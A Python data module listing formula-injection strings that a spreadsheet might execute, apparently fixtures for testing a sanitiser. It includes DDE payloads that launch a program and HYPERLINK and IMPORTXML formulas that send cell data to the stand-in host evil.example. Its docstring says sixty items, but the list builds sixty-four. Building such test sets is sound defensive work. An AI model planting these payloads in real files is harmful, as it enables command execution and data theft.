"""Sixty texts that a spreadsheet program could take for a formula, a link or a command."""

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "\u200b=",
    "\ufeff+",
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"klik")',
    "SUM(1+9)*cmd|' /C calc'!A0",
)
FORMULAS = [start + body for start in STARTS for body in BODIES] + [
    "=1;=2",
    '";=1+1;"',
    "'=1+1",
    "%0A=1+1",
    "|calc",
    '=IMPORTXML("https://evil.example","//a")',
    "-2+3+cmd|' /C calc'!D2",
    "_x003D_1+1",
]
